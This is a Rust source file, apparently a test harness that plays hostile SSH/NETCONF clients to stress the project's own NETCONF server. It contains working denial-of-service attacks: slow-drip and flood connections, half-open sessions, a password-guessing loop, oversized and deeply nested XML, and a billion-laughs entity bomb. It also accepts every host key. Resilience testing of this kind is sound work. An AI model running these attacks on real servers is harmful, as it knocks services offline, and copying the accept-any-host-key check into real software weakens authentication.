//! Hostile peers of a NETCONF server over SSH, without a login and with one. They share no code with our server.

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering::Relaxed};
use std::time::Duration;

use clap::ValueEnum;
use russh::ChannelStream;
use russh::client::{self, Handle};
use russh::keys::PublicKeyOrCertificate;
use tokio::io::{AsyncReadExt, AsyncWriteExt, split};
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio_util::sync::CancellationToken;

type Outcome<T = ()> = Result<T, Box<dyn std::error::Error + Send + Sync>>;

/// Before an attacker whose connection was closed opens another.
const PAUSE: Duration = Duration::from_millis(100);
const SECOND: Duration = Duration::from_secs(1);
const MEBIBYTE: usize = 1 << 20;
/// Just within the 64 MiB that our server takes.
const LARGEST: usize = 63 * MEBIBYTE;

const HELLO: &[u8] = b"<hello xmlns=\"urn:ietf:params:xml:ns:netconf:base:1.0\"><capabilities><capability>\
                       urn:ietf:params:netconf:base:1.1</capability></capabilities></hello>]]>]]>";
const SMALL: &str =
    "<get-config><source><running/></source><filter><small xmlns=\"urn:qkdn:tests:bench\"/></filter></get-config>";
const EVERYTHING: &str = "<get-config><source><running/></source></get-config>";
const LONG_XPATH: &str =
    "<get-config><source><running/></source><filter type=\"xpath\" select=\"//*[//*[.='x']/*[.='y']]\"/></get-config>";
const VALIDATE: &str = "<validate><source><running/></source></validate>";

/// What a hostile peer does.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub enum Attack {
    /// Without a login: a thousand connections that say nothing
    Strangers,
    /// Without a login: a byte of the SSH version a second, on a hundred connections
    Drip,
    /// Without a login: random bytes
    Noise,
    /// Without a login: passwords guessed on 32 connections
    Guesses,
    /// 400 sessions without a hello
    NoHello,
    /// A request at a byte a second, on fifty sessions
    ByteASecond,
    /// Twenty sessions that ask for everything and never read
    NeverReads,
    /// Twenty sessions that read a byte a second
    Sips,
    /// Four sessions that each send a message of a gibibyte
    Gigabyte,
    /// Fifty sessions that begin a message of 63 MiB and do not end it
    Unfinished,
    /// Four sessions with messages of 16 million elements
    Elements,
    /// Four sessions with messages of a million nested elements
    Nested,
    /// Four sessions with two million prefixes to find among 65,000 declarations
    Prefixes,
    /// Four sessions with entities of entities
    Entities,
    /// Random bytes on eight sessions
    RandomBytes,
    /// Two hundred sessions of a peer that is gone without a word
    HalfOpen,
    /// Small get-configs on four sessions, as fast as they can be sent
    Flood,
    /// Everything asked for on eight sessions, again and again
    Everything,
    /// XPath filters that look at every pair of nodes, on eight sessions
    XPath,
    /// Validations of everything, on eight sessions
    Validate,
}

/// What became of the attackers.
#[derive(Debug, Default)]
pub struct Tally {
    /// Connections or sessions that were opened.
    pub opened: AtomicU64,
    /// Of those, how many the server ended.
    pub ended: AtomicU64,
    pub replies: AtomicU64,
    /// Of those, how many were `resource-denied`.
    pub denied: AtomicU64,
}

/// Whom to attack, and as whom to log in.
#[derive(Clone)]
pub struct Victim {
    pub server: SocketAddr,
    pub user: String,
    pub password: String,
}

/// Attacks until `stop`. `scale` divides the number of connections: a test needs fewer than a measurement.
pub async fn run(attack: Attack, victim: &Victim, scale: usize, tally: &Arc<Tally>, stop: &CancellationToken) {
    if attack == Attack::HalfOpen {
        return vanish(victim, (200 / scale).max(1), tally, stop).await;
    }
    let number = match attack {
        Attack::Strangers => 1000,
        Attack::NoHello => 400,
        Attack::Drip => 100,
        Attack::ByteASecond | Attack::Unfinished => 50,
        Attack::Guesses => 32,
        Attack::NeverReads | Attack::Sips => 20,
        Attack::Noise | Attack::RandomBytes | Attack::Everything | Attack::XPath | Attack::Validate => 8,
        _ => 4,
    };
    let mut attackers = JoinSet::new();
    for number in 0..(number / scale).max(1) {
        let (victim, tally) = (victim.clone(), tally.clone());
        attackers.spawn(async move {
            // Not all in the same moment: logging in is not what is measured.
            tokio::time::sleep(Duration::from_millis(5 * number as u64)).await;
            loop {
                // However it ends: the server has had enough of this one.
                let _ended = once(attack, &victim, &tally).await;
                tally.ended.fetch_add(1, Relaxed);
                tokio::time::sleep(PAUSE).await;
            }
        });
    }
    stop.cancelled().await;
    attackers.shutdown().await;
}

/// One connection or session, until the server ends it.
async fn once(attack: Attack, victim: &Victim, tally: &Tally) -> Outcome {
    match attack {
        Attack::Strangers | Attack::Drip | Attack::Noise => stranger(attack, victim, tally).await,
        Attack::Guesses => guess(victim, tally).await,
        Attack::NoHello => {
            let mut open = Open::channel(victim, tally).await?;
            open.read_on().await
        }
        Attack::ByteASecond => {
            let mut open = Open::session(victim, tally).await?;
            for byte in framed(SMALL).repeat(1000).bytes() {
                open.stream.write_all(&[byte]).await?;
                tokio::time::sleep(SECOND).await;
            }
            Ok(())
        }
        Attack::NeverReads => {
            let mut open = Open::session(victim, tally).await?;
            loop {
                open.stream.write_all(framed(EVERYTHING).as_bytes()).await?;
            }
        }
        Attack::Sips => {
            let mut open = Open::session(victim, tally).await?;
            open.stream.write_all(framed(EVERYTHING).as_bytes()).await?;
            loop {
                open.stream.read_u8().await?;
                tokio::time::sleep(SECOND).await;
            }
        }
        Attack::Gigabyte => {
            let chunk = [format!("\n#{MEBIBYTE}\n").into_bytes(), vec![b'x'; MEBIBYTE]].concat();
            Open::session(victim, tally).await?.send(&[], &chunk, 1024).await
        }
        Attack::Unfinished => {
            let head = format!("\n#{LARGEST}\n<rpc>");
            let rest = vec![b' '; MEBIBYTE];
            Open::session(victim, tally).await?.send(head.as_bytes(), &rest, LARGEST / MEBIBYTE - 1).await
        }
        Attack::Elements => repeat(victim, tally, &in_rpc("<a/>".repeat(LARGEST / 4))).await,
        Attack::Nested => {
            let depth = 1_000_000;
            repeat(victim, tally, &in_rpc("<a>".repeat(depth) + &"</a>".repeat(depth))).await
        }
        Attack::Prefixes => repeat(victim, tally, &in_rpc(prefixes())).await,
        Attack::Entities => repeat(victim, tally, &entities()).await,
        Attack::RandomBytes => {
            let random = Random(tally.opened.load(Relaxed)).bytes(MEBIBYTE);
            Open::session(victim, tally).await?.send(&random, &random, usize::MAX).await
        }
        Attack::Flood => flood(victim, tally).await,
        Attack::Everything => repeat(victim, tally, &framed(EVERYTHING)).await,
        Attack::XPath => repeat(victim, tally, &framed(LONG_XPATH)).await,
        Attack::Validate => repeat(victim, tally, &framed(VALIDATE)).await,
        Attack::HalfOpen => unreachable!("has no end that it would notice"),
    }
}

async fn stranger(attack: Attack, victim: &Victim, tally: &Tally) -> Outcome {
    let mut stream = TcpStream::connect(victim.server).await?;
    let number = tally.opened.fetch_add(1, Relaxed);
    let (mut reader, mut writer) = stream.split();
    let mut received = Vec::new();
    match attack {
        Attack::Drip => {
            let drip = async {
                for byte in b"SSH-2.0-drip".iter().cycle() {
                    writer.write_all(&[*byte]).await?;
                    tokio::time::sleep(SECOND).await;
                }
                Ok(())
            };
            tokio::select! {
                sent = drip => sent,
                ended = reader.read_to_end(&mut received) => Ok(ended.map(drop)?),
            }
        }
        Attack::Noise => {
            writer.write_all(&Random(number).bytes(64 << 10)).await?;
            Ok(reader.read_to_end(&mut received).await.map(drop)?)
        }
        _ => Ok(reader.read_to_end(&mut received).await.map(drop)?),
    }
}

async fn guess(victim: &Victim, tally: &Tally) -> Outcome {
    let mut handle = client::connect(Arc::default(), victim.server, AnyHost).await?;
    tally.opened.fetch_add(1, Relaxed);
    for guess in 0.. {
        handle.authenticate_password(victim.user.as_str(), format!("guess {guess}")).await?;
        tally.replies.fetch_add(1, Relaxed);
    }
    Ok(())
}

/// Sends a message and reads its reply, for as long as the server lets it.
async fn repeat(victim: &Victim, tally: &Tally, message: &str) -> Outcome {
    let mut open = Open::session(victim, tally).await?;
    loop {
        open.stream.write_all(message.as_bytes()).await?;
        let denied = open.reply().await?;
        tally.replies.fetch_add(1, Relaxed);
        tally.denied.fetch_add(u64::from(denied), Relaxed);
    }
}

async fn flood(victim: &Victim, tally: &Tally) -> Outcome {
    let open = Open::session(victim, tally).await?;
    let (mut reader, mut writer) = split(open.stream);
    let batch = framed(SMALL).repeat(64);
    let sending = async {
        loop {
            if let Err(error) = writer.write_all(batch.as_bytes()).await {
                return Outcome::Err(error.into());
            }
        }
    };
    let reading = async {
        let mut buffer = vec![0; 64 << 10];
        let (mut ends, mut denied) = (Finder::new(b"\n##\n"), Finder::new(b"<error-tag>resource-denied<"));
        loop {
            let read = reader.read(&mut buffer).await?;
            if read == 0 {
                return Ok(());
            }
            tally.replies.fetch_add(ends.count(&buffer[..read]), Relaxed);
            tally.denied.fetch_add(denied.count(&buffer[..read]), Relaxed);
        }
    };
    tokio::select! { sent = sending => sent, read = reading => read }
}

/// Opens sessions from a thread that then does nothing at all any more: no reading, no answer to a keepalive.
async fn vanish(victim: &Victim, sessions: usize, tally: &Arc<Tally>, stop: &CancellationToken) {
    let (victim, tally, gone) = (victim.clone(), tally.clone(), stop.clone());
    let thread = tokio::task::spawn_blocking(move || {
        let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().expect("a runtime");
        let open = runtime.block_on(async {
            let mut open = Vec::new();
            for _ in 0..sessions {
                open.push(Open::session(&victim, &tally).await);
            }
            open
        });
        while !gone.is_cancelled() {
            std::thread::sleep(PAUSE);
        }
        drop(open);
    });
    thread.await.expect("it does not panic");
}

/// A channel of subsystem netconf.
struct Open {
    /// The connection ends with it.
    _handle: Handle<AnyHost>,
    stream: ChannelStream<client::Msg>,
}

impl Open {
    async fn channel(victim: &Victim, tally: &Tally) -> Outcome<Open> {
        // Little room for what is not read, so that not to read is felt.
        let config = client::Config { window_size: 64 << 10, channel_buffer_size: 1, ..client::Config::default() };
        let mut handle = client::connect(Arc::new(config), victim.server, AnyHost).await?;
        if !handle.authenticate_password(victim.user.as_str(), victim.password.as_str()).await?.success() {
            return Err("no login".into());
        }
        let channel = handle.channel_open_session().await?;
        channel.request_subsystem(true, "netconf").await?;
        tally.opened.fetch_add(1, Relaxed);
        Ok(Open { _handle: handle, stream: channel.into_stream() })
    }

    async fn session(victim: &Victim, tally: &Tally) -> Outcome<Open> {
        let mut open = Self::channel(victim, tally).await?;
        open.stream.write_all(HELLO).await?;
        open.read_past(b"]]>]]>").await?;
        Ok(open)
    }

    /// Until the server closes.
    async fn read_on(&mut self) -> Outcome {
        while self.stream.read(&mut [0; 4096]).await? > 0 {}
        Ok(())
    }

    /// Sends a head and then a piece again and again, and waits for the end; the server may close meanwhile.
    async fn send(self, head: &[u8], piece: &[u8], times: usize) -> Outcome {
        let (mut reader, mut writer) = split(self.stream);
        let sending = async {
            writer.write_all(head).await?;
            for _ in 0..times {
                writer.write_all(piece).await?;
            }
            // The server has it all; the end comes from there.
            std::future::pending::<()>().await;
            Outcome::Ok(())
        };
        let reading = async {
            while reader.read(&mut [0; 4096]).await? > 0 {}
            Ok(())
        };
        tokio::select! { sent = sending => sent, read = reading => read }
    }

    /// True where it says `resource-denied`.
    async fn reply(&mut self) -> Outcome<bool> {
        let head = self.read_past(b"\n##\n").await?;
        Ok(String::from_utf8_lossy(&head).contains("<error-tag>resource-denied<"))
    }

    /// Reads to the end of `mark` and no further than a read goes; returns the beginning.
    async fn read_past(&mut self, mark: &'static [u8]) -> Outcome<Vec<u8>> {
        let (mut head, mut finder, mut buffer) = (Vec::new(), Finder::new(mark), vec![0; 64 << 10]);
        loop {
            let read = self.stream.read(&mut buffer).await?;
            if read == 0 {
                return Err("closed".into());
            }
            if head.len() < 1024 {
                head.extend_from_slice(&buffer[..read.min(1024)]);
            }
            if finder.count(&buffer[..read]) > 0 {
                return Ok(head);
            }
        }
    }
}

/// Counts a mark in a stream that comes in pieces.
struct Finder {
    mark: &'static [u8],
    tail: Vec<u8>,
}

impl Finder {
    fn new(mark: &'static [u8]) -> Self {
        Finder { mark, tail: Vec::new() }
    }

    fn count(&mut self, piece: &[u8]) -> u64 {
        self.tail.extend_from_slice(piece);
        let found = self.tail.windows(self.mark.len()).filter(|window| *window == self.mark).count();
        self.tail.drain(..self.tail.len().saturating_sub(self.mark.len() - 1));
        found as u64
    }
}

fn framed(operation: &str) -> String {
    let rpc = format!("<rpc message-id=\"1\" xmlns=\"urn:ietf:params:xml:ns:netconf:base:1.0\">{operation}</rpc>");
    format!("\n#{}\n{rpc}\n##\n", rpc.len())
}

fn in_rpc(content: String) -> String {
    framed(&content)
}

/// Elements whose prefix is declared outside of 65,000 other declarations.
fn prefixes() -> String {
    let mut text = String::from("<r xmlns:z=\"u\">");
    for level in 0..250 {
        text.push_str("<a");
        for prefix in 0..250 {
            text.push_str(&format!(" xmlns:p{level}-{prefix}=\"u\""));
        }
        text.push('>');
    }
    text.push_str(&"<z:b/>".repeat(2_000_000));
    text.push_str(&"</a>".repeat(250));
    text + "</r>"
}

/// A thousand million copies of three letters.
fn entities() -> String {
    let mut text = String::from("<?xml version=\"1.0\"?><!DOCTYPE rpc [<!ENTITY e0 \"lol\">");
    for level in 1..10 {
        text.push_str(&format!("<!ENTITY e{level} \"{}\">", format!("&e{};", level - 1).repeat(10)));
    }
    text.push_str("]><rpc message-id=\"1\" xmlns=\"urn:ietf:params:xml:ns:netconf:base:1.0\"><a>&e9;</a></rpc>");
    format!("\n#{}\n{text}\n##\n", text.len())
}

/// Knuth's MMIX generator.
struct Random(u64);

impl Random {
    fn bytes(&mut self, number: usize) -> Vec<u8> {
        let mut next = || {
            self.0 = self.0.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
            (self.0 >> 33) as u8
        };
        (0..number).map(|_| next()).collect()
    }
}

/// Accepts every host key.
struct AnyHost;

impl client::Handler for AnyHost {
    type Error = russh::Error;

    async fn check_server_key(&mut self, _: &PublicKeyOrCertificate) -> Result<bool, Self::Error> {
        Ok(true)
    }
}
